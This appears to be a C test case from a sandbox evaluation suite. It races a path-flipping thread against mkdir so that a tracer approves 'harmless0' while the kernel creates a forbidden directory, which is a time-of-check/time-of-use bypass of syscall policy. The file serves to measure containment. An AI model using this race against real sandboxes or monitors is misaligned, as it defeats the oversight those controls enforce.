/* attack
class: policy
aim: call
tries: the path changes while it is judged
expect: { none: contained, process: gap, mpk: contained }
gap: a tracer judges the path before the kernel copies it
*/
/* The path is changed by another thread between the check and the call (time of check, time of use). */
#include "attack.h"
#include <pthread.h>
static char path[64] = "harmless0";
static volatile int stop;
static void *flips(void *unused) {
    while (!stop) {
        memcpy(path, FORBIDDEN, 10);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 50; i++) {}
        memcpy(path, "harmless0", 10);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 50; i++) {}
    }
    return unused;
}
int main(void) {
    pthread_t t;
    pthread_create(&t, NULL, flips, NULL);
    struct stat st;
    struct timespec begun, now;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    for (now = begun; now.tv_sec - begun.tv_sec < 5; clock_gettime(CLOCK_MONOTONIC, &now)) {
        rmdir("harmless0");
        syscall(SYS_mkdir, path, 0755);
        if (stat(FORBIDDEN, &st) == 0) break;
    }
    stop = 1;
    pthread_join(t, NULL);
    rmdir("harmless0");
    verdict_of_folder();
}
